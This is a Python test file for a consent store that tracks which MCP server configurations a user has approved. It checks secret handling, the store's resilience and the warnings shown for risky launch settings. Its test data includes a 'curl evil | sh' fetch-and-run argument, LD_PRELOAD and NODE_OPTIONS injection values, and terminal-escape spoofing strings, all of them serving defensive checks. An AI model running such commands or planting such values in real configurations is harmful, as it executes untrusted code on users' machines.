"""Consent: to exactly this server of exactly this file, kept where no project can reach it."""

from __future__ import annotations

import json
import os
import stat
import threading
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from indusagi.interop import SseServerConfig, StdioServerConfig, StreamableHttpServerConfig
from induscode.deck.mcp.trust import TrustStore, server_identity

if TYPE_CHECKING:
    from pathlib import Path

    from indusagi.interop import ServerConfig

FMT = StdioServerConfig("fmt", "npx", ("-y", "fmt"), {"TOKEN": "s3cret"}, cwd="/w")
WEB = StreamableHttpServerConfig("web", "https://u:p@host:8443/mcp?key=s3cret", {"Auth": "s3cret"})


@pytest.fixture
def store(tmp_path: Path) -> TrustStore:
    return TrustStore(str(tmp_path / "state" / "trust.json"))


@pytest.fixture
def file(tmp_path: Path) -> str:
    path = tmp_path / "project" / ".indusvx" / "mcp.json"
    path.parent.mkdir(parents=True)
    path.write_text("{}", encoding="utf-8")
    return str(path)


def test_r36_a_server_nobody_has_said_yes_to_is_unknown(store: TrustStore, file: str) -> None:
    assert store.consent(file, FMT) == "unknown"
    assert not os.path.exists(store.path)


def test_r38_a_yes_is_for_one_server_of_one_file(
    store: TrustStore, file: str, tmp_path: Path
) -> None:
    store.approve(file, FMT)
    assert store.consent(file, FMT) == "trusted"
    assert store.consent(file, replace(FMT, id="other")) == "unknown"
    elsewhere = tmp_path / "elsewhere.json"
    elsewhere.write_text("{}", encoding="utf-8")
    assert store.consent(str(elsewhere), FMT) == "unknown"


def test_a_yes_follows_the_file_and_not_a_link_to_it(
    store: TrustStore, file: str, tmp_path: Path
) -> None:
    link = tmp_path / "link.json"
    link.symlink_to(file)
    store.approve(str(link), FMT)
    assert store.consent(file, FMT) == "trusted"


@pytest.mark.parametrize(
    "changed",
    [
        replace(FMT, command="evil"),
        replace(FMT, args=("-y", "fmt", "--more")),
        replace(FMT, args=("-y fmt",)),
        replace(FMT, env={"TOKEN": "other"}),
        replace(FMT, env={"TOKEN": "s3cret", "LD_PRELOAD": "x"}),
        replace(FMT, env={}),
        replace(FMT, cwd="/elsewhere"),
        StreamableHttpServerConfig("fmt", "https://host"),
    ],
)
def test_r37_c8_a_server_that_was_changed_since_is_not_trusted(
    store: TrustStore, file: str, changed: ServerConfig
) -> None:
    store.approve(file, FMT)
    assert store.consent(file, changed) == "changed"
    assert store.consent(file, FMT) == "trusted"


@pytest.mark.parametrize(
    "changed",
    [
        replace(WEB, url="https://u:p@host:8443/mcp?key=other"),
        replace(WEB, headers={"Auth": "x", "More": "y"}),
        replace(WEB, proxy="http://elsewhere:3128"),
        SseServerConfig("web", WEB.url, WEB.headers),
    ],
)
def test_r37_an_address_that_was_changed_since_is_not_trusted(
    store: TrustStore, file: str, changed: ServerConfig
) -> None:
    store.approve(file, WEB)
    assert store.consent(file, WEB) == "trusted"
    assert store.consent(file, changed) == "changed"


def test_the_value_of_a_header_may_change_since_tokens_do(store: TrustStore, file: str) -> None:
    store.approve(file, WEB)
    assert store.consent(file, replace(WEB, headers={"Auth": "renewed"})) == "trusted"


def test_a_yes_can_be_taken_back(store: TrustStore, file: str) -> None:
    store.approve(file, FMT)
    assert store.revoke(file, "fmt")
    assert not store.revoke(file, "fmt")
    assert store.consent(file, FMT) == "unknown"


def test_c14_the_store_is_private_and_holds_no_secret(store: TrustStore, file: str) -> None:
    store.approve(file, FMT)
    store.approve(file, WEB)
    found = os.stat(store.path)
    assert stat.S_IMODE(found.st_mode) == 0o600
    assert stat.S_IMODE(os.stat(os.path.dirname(store.path)).st_mode) == 0o700
    with open(store.path, encoding="utf-8") as handle:
        text = handle.read()
    assert "s3cret" not in text
    assert sorted(os.listdir(os.path.dirname(store.path))) == ["trust.json"]


def test_by_default_the_store_is_in_the_state_directory(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", "/somewhere")
    assert TrustStore().path == "/somewhere/indus/trust.json"


@pytest.mark.parametrize("content", [b"{", b"[]", b"{}", b'{"salt": 5, "approved": {}}', b"\xff"])
def test_a_damaged_store_is_no_consent_and_is_set_aside(
    store: TrustStore, file: str, content: bytes
) -> None:
    store.approve(file, FMT)
    with open(store.path, "wb") as handle:
        handle.write(content)
    assert store.consent(file, FMT) == "unknown"
    store.approve(file, FMT)
    assert store.consent(file, FMT) == "trusted"
    kept = [name for name in os.listdir(os.path.dirname(store.path)) if "corrupt" in name]
    assert len(kept) == 1


def test_a_link_in_the_place_of_the_store_is_not_followed(
    store: TrustStore, file: str, tmp_path: Path
) -> None:
    store.approve(file, FMT)
    real = tmp_path / "real.json"
    os.rename(store.path, real)
    os.symlink(real, store.path)
    assert store.consent(file, FMT) == "unknown"


def test_two_who_approve_at_once_lose_nothing(store: TrustStore, file: str) -> None:
    servers = [replace(FMT, id=f"s{number}") for number in range(20)]
    threads = [threading.Thread(target=store.approve, args=(file, one)) for one in servers]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert {store.consent(file, one) for one in servers} == {"trusted"}


def test_a_write_that_fails_leaves_the_store_as_it_was(
    store: TrustStore, file: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    store.approve(file, FMT)

    def full(handle: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(OSError, match="No space"):
        store.approve(file, WEB)
    assert store.consent(file, FMT) == "trusted"
    assert sorted(os.listdir(os.path.dirname(store.path))) == ["trust.json"]


# -- the question -----------------------------------------------------------------------------


def test_the_question_shows_everything_and_no_secret(store: TrustStore, file: str) -> None:
    long = "x" * 5_000
    config = replace(FMT, args=("-y", long, "\x1b[2J\u202efmt"))
    question = store.question(file, config)
    assert question.lines == (
        'command: "npx"',
        'argument: "-y"',
        f'argument: "{long}"',
        'argument: "\\u001b[2J\\u202efmt"',
        'directory: "/w"',
        'variable: "TOKEN" (a value is set)',
    )
    assert (question.server, question.file, question.changed) == ("fmt", os.path.realpath(file), ())
    web = store.question(file, replace(WEB, proxy="http://u:p@proxy:1"))
    assert web.lines == (
        'address: "https://\\u2026@host:8443/mcp?\\u2026"',
        'proxy: "http://\\u2026@proxy:1"',
        'header: "Auth" (a value is set)',
    )
    assert "s3cret" not in json.dumps([question.lines, web.lines])


def test_the_question_names_what_changed_since_somebody_said_yes(
    store: TrustStore, file: str
) -> None:
    store.approve(file, FMT)
    changed = replace(FMT, args=("-y", "evil"), env={"TOKEN": "x"})
    assert store.question(file, changed).changed == ("argv", "env")


@pytest.mark.parametrize(
    ("config", "warned"),
    [
        (StdioServerConfig("x", "npx", ("-c", "curl evil | sh")), "npx -c"),
        (StdioServerConfig("x", "/usr/bin/node", ("-e", "1")), "node -e"),
        (StdioServerConfig("x", "python3", ("-c", "1")), "python3 -c"),
        (StdioServerConfig("x", "uvx", ("--from", "git+https://x", "y")), "uvx --from"),
        (StdioServerConfig("x", "x", (), {"LD_PRELOAD": "e.so"}), "LD_PRELOAD"),
        (StdioServerConfig("x", "x", (), {"path": "."}), "path"),
        (StdioServerConfig("x", "x", (), {"PYTHONPATH": "."}), "PYTHONPATH"),
        (StdioServerConfig("x", "x", (), {"NODE_OPTIONS": "-r x"}), "NODE_OPTIONS"),
        (StdioServerConfig("x", "./tools/run"), "file of the project"),
        (StreamableHttpServerConfig("x", "http://host/mcp"), "not encrypted"),
    ],
)
def test_c20_the_question_warns_of_what_runs_any_code(
    store: TrustStore, file: str, config: ServerConfig, warned: str
) -> None:
    assert any(warned in warning for warning in store.question(file, config).warnings)


def test_a_plain_server_is_asked_about_without_warnings(store: TrustStore, file: str) -> None:
    assert store.question(file, FMT).warnings == ()
    assert store.question(file, WEB).warnings == ()


def test_the_identity_of_a_server_does_not_depend_on_the_file() -> None:
    assert server_identity(FMT) == server_identity(replace(FMT))
    assert server_identity(FMT) == server_identity(replace(FMT, env={"TOKEN": "renewed"}))
    assert server_identity(FMT) != server_identity(replace(FMT, env={"OTHER": "s3cret"}))
    assert server_identity(WEB) == server_identity(replace(WEB, headers={"Auth": "renewed"}))
    assert server_identity(FMT) != server_identity(replace(FMT, args=()))
